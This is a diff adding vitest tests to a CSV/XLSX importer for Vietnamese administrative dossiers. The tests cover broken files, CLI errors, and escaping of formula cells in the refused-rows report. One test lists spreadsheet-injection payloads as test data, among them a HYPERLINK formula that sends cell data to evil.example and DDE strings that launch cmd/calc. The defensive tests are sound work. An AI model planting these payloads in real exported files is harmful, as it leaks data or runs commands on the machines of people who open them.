@@ -12,7 +12,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { SAMPLE_EXPORT_FILE } from '#events/samples/export.ts';
 import { SAMPLE_FILE } from '#events/samples/generate.ts';
-import { importExport } from '../../infra/local/import-client.ts';
+import { csvCell, importExport } from '../../infra/local/import-client.ts';
 import { postEvents } from '../../infra/local/replay-client.ts';
 import { startTestApi, type TestApi } from '../support/local-api.ts';
 import { writeSemicolonCsv, writeXlsx } from '../support/export-files.ts';
@@ -163,6 +163,66 @@ describe('bad rows', () => {
   });
 });
 
+/** Items stored for an agency's dossiers. */
+async function dossierItems(agencyId: string): Promise<number> {
+  const { Count } = await local.dynamo.send(
+    new ScanCommand({ TableName: local.tableName, Select: 'COUNT', FilterExpression: 'begins_with(pk, :p)', ExpressionAttributeValues: { ':p': { S: `AGENCY#${agencyId}#` } } }),
+  );
+  return Count ?? 0;
+}
+
+const HEADER = 'Mã hồ sơ,Mã thủ tục,Tên thủ tục,Hình thức nộp,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,Trạng thái';
+const goodRow = (i: number) => `G-${i},1.004503,Đăng ký,Trực tuyến,01/03/2023 08:30,10/03/2023,05/03/2023 09:00,Đã giải quyết`;
+
+describe('a file that breaks part-way', () => {
+  it('a CSV of 1,200 good rows and a last one with an unclosed quote sends nothing, and says where it broke', async () => {
+    const rows = Array.from({ length: 1_200 }, (_, i) => goodRow(i + 1));
+    const file = scratch('broken.csv', [HEADER, ...rows, 'G-X,1.004503,"Đăng ký,Trực tuyến,01/03/2023 08:30,10/03/2023,,Đang xử lý'].join('\r\n') + '\r\n');
+    const summary = await importInto('BROKEN', file);
+    expect(summary).toMatchObject({ rowsRead: 1_200, unreadable: { line: 1_202, reason: 'dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)' }, refusedByReason: { unreadable_file: 1 } });
+    expect(await dossierItems('BROKEN')).toBe(0);
+    const report = parse(readFileSync(join(dir, 'broken.refused.csv')), { bom: true }) as string[][];
+    expect(report.slice(1)).toEqual([['1202', '', 'unreadable_file', 'Tệp không đọc được từ dòng 1202: dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)']]);
+  }, 60_000);
+
+  it('a quote closed too early in the middle stops it the same way, before anything is sent', async () => {
+    const rows = Array.from({ length: 600 }, (_, i) => goodRow(i + 1));
+    rows.splice(300, 0, 'G-Q,1.004503,"Đăng ký" nhanh,Trực tuyến,01/03/2023 08:30,10/03/2023,,Đang xử lý');
+    const summary = await importInto('BROKEN2', scratch('quote.csv', [HEADER, ...rows].join('\n') + '\n'));
+    expect(summary.unreadable).toEqual({ line: 302, reason: 'sau dấu ngoặc kép đóng còn ký tự (CSV_INVALID_CLOSING_QUOTE)' });
+    expect(await dossierItems('BROKEN2')).toBe(0);
+  }, 60_000);
+
+  it('a truncated XLSX sends nothing', async () => {
+    const whole = join(dir, 'whole.xlsx');
+    await writeXlsx(readFileSync(SAMPLE_EXPORT_FILE, 'utf8'), whole);
+    const bytes = readFileSync(whole);
+    const file = scratch('truncated.xlsx');
+    writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * 0.6)));
+    const summary = await importInto('BROKEN3', file);
+    expect(summary.unreadable).toMatchObject({ line: expect.any(Number), reason: expect.stringMatching(/^tệp XLSX hỏng/) });
+    expect(summary.refusedByReason).toEqual({ unreadable_file: 1 });
+    expect(await dossierItems('BROKEN3')).toBe(0);
+  }, 60_000);
+});
+
+describe('the refused-rows list opens in a spreadsheet as text, never as formulas', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|calc', '\t=1+1', '\r=1+1', '＝1+1'];
+
+  it('neutralises every cell that would start a formula, keeping its text after an apostrophe', async () => {
+    const rows = hostile.map((id) => `${csvCell(id)},1.004503,,Trực tuyến,01/03/2023 08:30,10/03/2023,,Hoàn thành`);
+    const file = scratch('formulas.csv', [HEADER, ...rows].join('\r\n') + '\r\n');
+    const summary = await importInto('FORMULA', file);
+    expect(summary).toMatchObject({ rowsRead: hostile.length, rowsImported: 0, refusedByReason: { unknown_status: hostile.length } });
+    const text = readFileSync(join(dir, 'formulas.refused.csv'), 'utf8');
+    const report = parse(text, { bom: true }) as string[][];
+    expect(report.slice(1).map((cells) => cells[1])).toEqual(hostile.map((id) => `'${id}`));
+    // What a spreadsheet sees: no cell of the file starts with a formula character.
+    for (const cells of report) for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+    expect(await dossierItems('FORMULA')).toBe(0);
+  });
+});
+
 describe('npm run import', () => {
   /** The script as npm runs it; --dry-run starts no stack. */
   const run = (...args: string[]) =>
@@ -183,5 +243,33 @@ describe('npm run import', () => {
     const unmapped = await run('--agency', 'SKHCN', renamed, '--dry-run');
     expect(unmapped).toMatchObject({ code: 2, stdout: expect.stringContaining('columns.dossierId: no column "Mã hồ sơ"') });
     expect(await run('--agency', 'SỞ KHCN', renamed, '--dry-run')).toMatchObject({ code: 2, stdout: expect.stringContaining('--agency: must be 1–64 characters') });
+  }, 60_000);
+
+  it('--help prints the usage and exits 0; an unknown option or a missing file exits 2 with the usage, never a stack trace', async () => {
+    const help = await run('--help');
+    expect(help.code).toBe(0);
+    expect(help.stdout).toMatch(/^usage: npm run import -- --agency SKHCN FILE\.csv\|FILE\.xlsx/);
+    expect(help.stdout).toContain('exit codes: 0 all imported');
+    for (const [args, why] of [
+      [['--agency', 'SKHCN', 'x.csv', '--sheet', '2'], "Unknown option '--sheet'"],
+      [['x.csv'], '--agency: required'],
+      [['--agency', 'SKHCN'], 'FILE: required'],
+      [['--agency', 'SKHCN', join(dir, 'missing.csv'), '--dry-run'], 'missing.csv: cannot be read'],
+      [['--agency'], "Option '--agency <value>' argument missing"],
+    ] as const) {
+      const answer = await run(...args);
+      expect(answer, args.join(' ')).toMatchObject({ code: 2, stdout: expect.stringContaining(why) });
+      expect(answer.stdout).toContain('usage: npm run import');
+      expect(answer.stdout).not.toMatch(/\n\s+at /);
+    }
+  }, 60_000);
+
+  it('a CSV that breaks part-way: the summary, the line in the refused list, exit 2', async () => {
+    const file = scratch('broken-cli.csv', `${HEADER}\n${goodRow(1)}\nG-2,"1.004503\n`);
+    const answer = await run('--agency', 'SKHCN', file, '--dry-run');
+    expect(answer.code).toBe(2);
+    expect(answer.stdout).toContain('1 rows read; nothing sent: the file cannot be read from line 3 on (dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)).');
+    expect(answer.stdout).not.toMatch(/\n\s+at /);
+    expect(readFileSync(join(dir, 'broken-cli.refused.csv'), 'utf8')).toContain('3,,unreadable_file');
   }, 60_000);
 });
